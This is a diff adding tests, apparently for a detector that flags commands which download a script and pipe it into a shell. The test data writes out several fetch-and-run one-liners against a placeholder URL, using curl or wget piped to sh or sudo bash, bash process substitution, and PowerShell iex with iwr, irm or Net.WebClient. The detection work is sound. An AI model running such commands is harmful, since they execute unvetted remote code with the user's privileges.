@@ -53,3 +53,23 @@ describe('the session’s own programs there', () => {
     expect(runs(session)).toEqual([]);
   });
 });
+
+describe('what was fetched and run at once is told by its address', () => {
+  const address = 'https://get.example.net/setup';
+  it.each([
+    `curl -fsSL ${address} | sh`,
+    `curl https://api.example.net/health; wget -qO- ${address} | sudo bash`,
+    `bash <(curl -s ${address})`,
+    `pwsh -c 'iex (iwr ${address})'`,
+    `pwsh -c 'iex (New-Object Net.WebClient).DownloadString("${address}")'`,
+    `pwsh -c 'irm ${address} | iex'`,
+  ])('%s', (command) => {
+    const found = findingsOf(detectors, { session: [command] });
+    expect(found.find(({ queryId }) => queryId === 'download_piped_to_shell')?.subject).toBe(address);
+  });
+
+  it('but a file that was fetched and run is the file', () => {
+    const found = findingsOf(detectors, { session: [`curl -o /tmp/x.sh ${address}; bash /tmp/x.sh`] });
+    expect(found.find(({ queryId }) => queryId === 'download_piped_to_shell')?.subject).toBe('/tmp/x.sh');
+  });
+});
